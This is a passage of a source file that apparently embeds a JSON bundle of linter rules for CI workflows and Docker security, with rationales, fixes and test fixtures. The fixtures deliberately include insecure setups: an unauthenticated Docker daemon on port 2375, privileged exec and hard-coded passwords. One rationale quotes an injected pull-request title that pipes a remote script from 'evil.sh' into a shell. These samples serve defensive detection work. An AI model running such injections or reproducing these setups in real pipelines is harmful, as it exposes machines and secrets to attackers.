script","severity":"high","subject":"command","when":{"properties":{"origin":{"enum":["workflow","action"]}}},"schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}},"docker":{"properties":{"globalFlags":{"properties":{"host":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}}}},"if":{"properties":{"name":{"const":"dockerd"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}},"message":"This script talks to (or starts) a Docker daemon on plain TCP port 2375: that API has no authentication, so anything that can reach the port can start a privileged container and own the machine. Use the local socket, or `tcp://\u2026:2376` with `--tlsverify` and client certificates.","rationale":"The Docker API is root-equivalent. On the Unix socket it is protected by file permissions; on TCP without TLS it is open to every process and host that can reach the port, with no authentication, and traffic can be read or altered in transit. Exposed daemons on 2375 are actively scanned for and turned into crypto-miners within minutes. Docker\'s documentation and the OWASP cheat sheet (rule 1) require TLS with client certificates (port 2376) or SSH when the daemon must be reached remotely.","remediation":"Keep using the local socket, or protect the TCP endpoint:\\n\\n```yaml\\n- run: docker --tlsverify -H tcp://docker.example.com:2376 ps\\n  env:\\n    DOCKER_CERT_PATH: ${{ runner.temp }}/docker-certs\\n```\\n\\nFor remote builders, `DOCKER_HOST=ssh://deploy@builder.example.com` uses SSH instead.","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^(--host=|-H)?tcp://[^\\\\s/:]*(:2375)?/?$"},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 &\\n          DOCKER_HOST=tcp://127.0.0.1:2375 docker ps\\n          docker -H tcp://10.0.0.5 info\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":78},{"line":8,"column":11},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker --tlsverify -H tcp://docker.example.com:2376 ps\\n          DOCKER_HOST=ssh://deploy@builder.example.com docker info\\n","expect":[]}],"source":"policies/workflows/command-docker-daemon-tcp-without-tls.yaml"},{"id":"command-docker-exec-privileged","pack":"workflows","title":"docker exec runs privileged or as root","severity":"medium","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"exec"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"privileged":{"items":{"not":{"enum":["true","1","t","T","TRUE","True"]}}},"user":{"items":{"not":{"pattern":{"$param":"rootUser"}}}}}}}}}},"message":"`docker exec` here runs with `{{key}}` set to `{{value}}`, handing the command more power than the container itself was given (every capability with `--privileged`, root with `-u root`). Run it as the container\'s own user and without `--privileged`.","rationale":"`docker exec --privileged` gives the new process every capability and device access even in a container that was started unprivileged, and `docker exec -u root` bypasses the container\'s non-root USER. Either undoes the hardening the container was started with, for a command that often processes untrusted input in CI. The CIS Docker Benchmark asks that exec commands not use the privileged option (5.23) or the root user (5.24).","remediation":"```yaml\\n- run: docker exec app ./manage.py migrate\\n```\\n\\nIf a task needs root, build it into the image or run a separate, short-lived container for it.","references":[{"framework":"cis-docker","id":"1.6.0:5.23"},{"framework":"cis-docker","id":"1.6.0:5.24"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d --name app ghcr.io/example/app:1.4.2\\n          docker exec --privileged app mount -t tmpfs none /mnt\\n          docker exec -u root app apt-get install -y curl\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":64},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker exec app ./manage.py migrate\\n          docker exec -u 10001 app id\\n","expect":[]}],"source":"policies/workflows/command-docker-exec-privileged.yaml"},{"id":"command-docker-login-password","pack":"workflows","title":"docker login with a password written in the script","severity":"high","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"login"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":{"$param":"expression"}}}}}}}}},"message":"`docker login` is given a password written in the script, so it is in the repository for anyone to read, and `-p` also puts it in the process list. Pipe a secret in instead: `echo \\"${{ secrets.REGISTRY_TOKEN }}\\" | docker login -u bot --password-stdin ghcr.io`, or use docker/login-action.","rationale":"A password written in a workflow\'s `run:` script is committed to the repository\'s history, visible to everyone with read access and copied into every fork, and it cannot be masked in logs because GitHub does not know it is a secret. Docker itself warns that `--password` on the command line is insecure: the value shows up in `ps` and shell history. The OWASP cheat sheet (rule 12) asks that secrets be kept out of files and command lines.","remediation":"```yaml\\n- name: Log in to the registry\\n  run: echo \\"$REGISTRY_TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n  env:\\n    REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n```\\n\\nor `uses: docker/login-action@<sha>` with `password: ${{ secrets.REGISTRY_TOKEN }}`. Rotate the\\npassword that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/login/#password-stdin"}],"params":{"expression":"\\\\$"},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker login -u ci-bot -p \'hunter2-hunter2\' registry.example.com\\n          docker push registry.example.com/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":75}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n        env:\\n          TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n      - run: docker login -u ci-bot --password \\"$TOKEN\\" registry.example.com\\n","expect":[]}],"source":"policies/workflows/command-docker-login-password.yaml"},{"id":"container-registry-password-literal","pack":"workflows","title":"Registry password written in a job or service container\'s credentials","severity":"high","subject":"container","when":{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"credentials":{"properties":{"password":{"pattern":{"$param":"expression"}}}}}},"message":"{{name}} writes its registry password into the workflow, where everyone who can read the repository (and every fork) can copy it. Store it as an encrypted secret and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.","rationale":"A password in a workflow file is committed to the repository\'s history, copied into forks and visible to anyone with read access; rotating it does not remove the old value from history. GitHub encrypts repository and organisation secrets, masks them in logs and withholds them from workflows triggered by forks. For GitHub Container Registry, the job\'s own `GITHUB_TOKEN` needs no stored password at all. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nThen rotate the password that was committed: it stays in the repository\'s history.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials"}],"params":{"expression":"\\\\$\\\\{\\\\{"},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: registry.example.com/ci/node:22\\n      credentials:\\n        username: ci-bot\\n        password: hunter2-hunter2\\n    services:\\n      db:\\n        image: registry.example.com/ci/postgres:16\\n        credentials:\\n          username: ci-bot\\n          password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: npm test\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":34}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/container-registry-password-literal.yaml"},{"id":"workflow-container-literal-secret","pack":"workflows","title":"Secret written into a job or service container\'s env","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the workflow. For a throwaway test database that is harmless, but a real credential is now readable by everyone with access to the repository. Use `${{ secrets.\u2026 }}` for anything that is not a disposable test value.","rationale":"Service containers in CI usually get a made-up password for a database that lives for one job, which is why this rule is low severity. The same place is also where real credentials for licensed images, external services or shared test environments end up, and a value written in the workflow is committed, visible to every reader and fork, and not masked in logs. The OWASP cheat sheet (rule 12) asks that secrets never be written into configuration files.","remediation":"```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    env:\\n      POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}   # or a disposable value, suppressed\\n```\\n\\nA disposable value can be kept with an inline suppression that says so:\\n`# containment: ignore[workflow-container-literal-secret] throwaway CI database`.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"}],"params":{"literalValue":"^[^$]+$"},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      env:\\n        NPM_TOKEN: npm_abcdefghijklmnop\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_USER: app\\n          POSTGRES_PASSWORD: postgres\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":40},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}\\n          POSTGRES_HOST_AUTH_METHOD: trust\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-container-literal-secret.yaml"},{"id":"workflow-docker-daemon-tcp-without-tls","pack":"workflows","title":"Workflow step points Docker at, or exposes, a daemon on plain TCP","severity":"medium","subject":"workflow.step","schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}},"message":"This step sets `{{key}}` so that Docker is reached over plain TCP, where its API has no authentication: anything that can reach the port can start privileged containers on that daemon. Use the local socket (the default), or TLS on port 2376 with client certificates.","rationale":"The Docker API is root-equivalent, and on TCP without TLS anyone who can reach the port can use it. A `DOCKER_HOST=tcp://\u2026:2375` in a workflow usually points at a Docker-in-Docker service or a remote builder whose port is then open to every container and process on that network. The OWASP cheat sheet (rule 1) asks never to expose the daemon without TLS.","remediation":"Leave `DOCKER_HOST` unset to use the runner\'s socket, or use TLS:\\n\\n```yaml\\nenv:\\n  DOCKER_HOST: tcp://docker:2376\\n  DOCKER_TLS_VERIFY: \\"1\\"\\n  DOCKER_CERT_PATH: /certs/client\\n```","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^tcp://[^\\\\s/:]*(:2375)?/?$"},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          tcp-port: 2375\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://localhost:2375\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":25},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          set-host: true\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://docker:2376\\n          DOCKER_TLS_VERIFY: \\"1\\"\\n","expect":[]}],"source":"policies/workflows/workflow-docker-daemon-tcp-without-tls.yaml"},{"id":"workflow-image-push-without-attestations","pack":"workflows","title":"Image pushed without SBOM and provenance attestations","severity":"low","subject":"workflow.step","when":{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}},"schema":{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}},"message":"This step pushes an image without {{key}} attestations, so consumers cannot verify how it was built or see what it contains when a vulnerability is announced. Add `sbom: true` and keep provenance on (`provenance: mode=max`).","rationale":"An SBOM attestation lists the packages in the image, which lets scanners and consumers answer \\"are we affected?\\" without pulling and unpacking it. A provenance attestation records the source repository, commit, build parameters and builder, which lets consumers check that the image was built from this repository by this workflow. BuildKit attaches both to the pushed image; docker/build-push-action adds provenance by default (`mode=max` for public repositories, `mode=min` for private ones) unless `provenance: false`, but an SBOM only with `sbom: true`. The OWASP cheat sheet\'s supply-chain rule (13) and Docker Scout rely on them.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    sbom: true\\n    provenance: mode=max\\n```","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/attestations/"},{"framework":"url","url":"https://docs.docker.com/build/metadata/attestations/"}],"params":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          provenance: false\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":13},{"line":10,"column":11,"endLine":10,"endColumn":28}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          sbom: true\\n          provenance: mode=max\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: false\\n          load: true\\n          tags: app:test\\n","expect":[]}],"source":"policies/workflows/workflow-image-push-without-attestations.yaml"},{"id":"workflow-job-permissions-write-all","pack":"workflows","title":"Job grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow.job","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"Job {{name}} sets `permissions: write-all`, so every step in it, including third-party actions, holds a token that can push code, publish packages and change releases. List only the scopes this job needs, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step of the job. `write-all` turns any compromised action or injected script into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idpermissions"}],"params":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions: write-all\\n    steps:\\n      - run: make release\\n","expect":[{"line":7,"column":5,"endLine":7,"endColumn":27}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-job-permissions-write-all.yaml"},{"id":"workflow-login-action-password-literal","pack":"workflows","title":"docker/login-action given a password written in the workflow","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}},"message":"This docker/login-action step writes the registry password into the workflow, where everyone who can read the repository can copy it. Store it as a secret and write `password: ${{ secrets.REGISTRY_TOKEN }}` (or `${{ secrets.GITHUB_TOKEN }}` for ghcr.io).","rationale":"docker/login-action masks the password only when it comes from a secret; a literal value is part of the committed file, visible to every reader and fork and kept in history after it is changed. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\n- uses: docker/login-action@<full commit sha> # v3\\n  with:\\n    registry: ghcr.io\\n    username: ${{ github.actor }}\\n    password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nRotate the password that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/push-multi-registries/"}],"params":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@v3\\n        with:\\n          registry: registry.example.com\\n          username: ci-bot\\n          password: hunter2-hunter2\\n","expect":[{"line":10,"column":11,"endLine":10,"endColumn":36}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772\\n        with:\\n          registry: ghcr.io\\n          username: ${{ github.actor }}\\n          password: ${{ secrets.GITHUB_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-login-action-password-literal.yaml"},{"id":"workflow-permissions-missing","pack":"workflows","title":"Workflow does not limit the GITHUB_TOKEN\'s permissions","severity":"low","subject":"workflow","when":{"not":{"properties":{"on":{"properties":{"events":{"const":["workflow_call"]}}}}}},"schema":{"required":["permissions"]},"message":"This workflow does not declare `permissions:`, so its jobs get the repository\'s default token permissions, which may include write access to code, packages and releases. Add `permissions: { contents: read }` at the top and grant more only to the jobs that need it.","rationale":"Every job receives a `GITHUB_TOKEN`. Without a `permissions:` block its scopes are the repository\'s or organisation\'s default, which for older repositories is read and write on almost everything. A compromised step (a malicious action, an injected script) can then push code, publish packages or alter releases. Declaring the minimum at the workflow level makes the token\'s power visible in review. If every job declares its own `permissions:`, suppress this finding with that reason.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write   # only this job pushes images\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"}],"params":{},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-missing.yaml"},{"id":"workflow-permissions-write-all","pack":"workflows","title":"Workflow grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"`permissions: write-all` gives every job of this workflow a token that can push code, publish packages, change releases and more, so any compromised step can do all of that. List only the scopes the jobs need, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step, including third-party actions and scripts that process untrusted input. `write-all` turns any weakness in any of them into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\npermissions:\\n  contents: read\\n  packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"}],"params":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions: write-all\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":23}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-all.yaml"},{"id":"workflow-secret-in-build-args","pack":"workflows","title":"Secret passed to an image build as a build argument","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":{"$param":"secretExpression"}}}}}}},"message":"This build passes a secret through `build-args`, which are recorded in the image\'s history and provenance, so anyone who can pull the image can read it. Pass it with the action\'s `secrets:` input and read it in the Dockerfile with `RUN --mount=type=secret`.","rationale":"Build arguments are not secret: their values end up in the image configuration\'s history (when an ARG is used by a RUN), in build logs and caches, and, since docker/build-push-action adds provenance attestations by default, in the provenance attached to the pushed image, which Docker\'s documentation warns about. Docker\'s GitHub Actions documentation shows build secrets passed through the `secrets:` (or `secret-files:`) input instead, which BuildKit mounts for the one step that needs them and never writes to a layer.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    secrets: |\\n      npm_token=${{ secrets.NPM_TOKEN }}\\n```\\n\\n```dockerfile\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci --omit=dev\\n```","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/secrets/"}],"params":{"secretExpression":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=1.4.2\\n            NPM_TOKEN=${{ secrets.NPM_TOKEN }}\\n","expect":[{"line":10,"column":11}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=${{ github.ref_name }}\\n          secrets: |\\n            npm_token=${{ secrets.NPM_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-secret-in-build-args.yaml"},{"id":"workflow-untrusted-code-with-privileged-trigger","pack":"workflows","title":"Privileged trigger builds or runs a pull request\'s code","severity":"critical","subject":"workflow.step","when":{"required":["prHeadCheckedOut","triggers"],"properties":{"prHeadCheckedOut":{"const":true},"triggers":{"contains":{"enum":["pull_request_target","workflow_run"]}}}},"schema":{"properties":{"builds":false,"composeFiles":false}},"message":"This step builds or runs the pull request\'s code (`docker build`, build-push-action, `docker compose`) in a workflow started by `pull_request_target` or `workflow_run`, which has the base repository\'s secrets and a write token: any contributor can run code with them. Build untrusted code in a `pull_request` workflow, and pass only its results to the privileged one.","rationale":"`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a `GITHUB_TOKEN` that can write, precisely because they are not supposed to run the pull request\'s code. Checking out the head of the pull request and then building a Dockerfile (whose RUN steps execute) or bringing up a Compose file hands that access to whoever opened the pull request (\\"pwn request\\"). The job\'s earlier checkout of the head is what makes this step dangerous; the finding is on the step that executes the code.","remediation":"Split the work: build and test the contributor\'s code with `on: pull_request` (no secrets, read\\ntoken), upload what is needed as an artifact, and let a `workflow_run` workflow that never checks\\nout or executes the pull request\'s code publish it:\\n\\n```yaml\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - run: docker build -t app:pr .\\n```","references":[{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target"}],"params":{},"tests":[{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  preview:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t preview:${{ github.event.number }} .\\n      - run: docker compose up -d\\n","expect":[{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t tools .\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t app:pr .\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-code-with-privileged-trigger.yaml"},{"id":"workflow-untrusted-input-in-run","pack":"workflows","title":"Attacker-controlled value expanded into a run script","severity":"high","subject":"workflow.step","schema":{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}},"message":"This `run:` script expands attacker-controlled values ({{subject.untrustedExpressions}}) straight into shell code, so whoever writes that title, branch name or comment can run commands here, with the job\'s token and secrets. Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `\\"$TITLE\\"` in the script.","rationale":"GitHub replaces `${{ }}` expressions before the shell starts, so the value becomes part of the script\'s text. Pull request titles and bodies, issue and comment bodies, commit messages, author names and branch names are chosen by whoever opens the pull request or issue; a title such as `\\"; curl evil.sh | sh; \\"` is executed. Through an environment variable the value stays data. GitHub\'s security hardening guide describes this script injection.","remediation":"```yaml\\n- name: Greet\\n  env:\\n    TITLE: ${{ github.event.pull_request.title }}\\n  run: echo \\"Building: $TITLE\\"\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"}],"params":{},"tests":[{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"New issue: ${{ github.event.issue.title }}\\"\\n          docker run --rm ghcr.io/example/triage:1.0.0 \\"${{ github.event.issue.body }}\\"\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          TITLE: ${{ github.event.issue.title }}\\n        run: echo \\"New issue $TITLE (#${{ github.event.issue.number }})\\"\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-input-in-run.yaml"}],"source":"policies/workflows"}]');
+  packs ??= JSON.parse('[{"id":"docker","title":"Docker runtime and image security","description":"What Docker\'s own security guidance, the CIS Docker Benchmark v1.6.0 (sections 4 and 5) and the OWASP Docker Security Cheat Sheet ask of every container and image, wherever it is described: Compose services, workflow job and service containers, `docker run` in scripts, Dockerfiles.","version":"0.1.0","rules":[{"id":"command-chmod-insecure","pack":"docker","title":"Build makes files world-writable or adds setuid/setgid bits","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"if":{"properties":{"name":{"const":"chmod"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"insecureMode"}}}}}}},"message":"`chmod {{value}}` makes files in the image world-writable or setuid/setgid, so any process in the container can replace them, or a bug in a setuid program becomes root. Give the files to the user that needs them (`COPY --chown`, `chown`) with a mode such as `755` or `644`.","rationale":"World-writable files and directories let any user in the container alter programs and configuration that others (including root) then run; `chmod 777` is usually a shortcut around an ownership problem. Setuid and setgid bits give a program its owner\'s or group\'s privileges whoever runs it, which makes every bug in it a privilege escalation. The CIS Docker Benchmark (4.8) asks that setuid and setgid permissions be removed from images. The sticky-bit mode `1777` (a shared temp directory) is not reported.","remediation":"Give ownership to the runtime user instead of opening the permissions to everyone:\\n\\n```dockerfile\\nCOPY --chown=10001:10001 app/ /app/\\nRUN mkdir -p /app/data && chown 10001:10001 /app/data && chmod 750 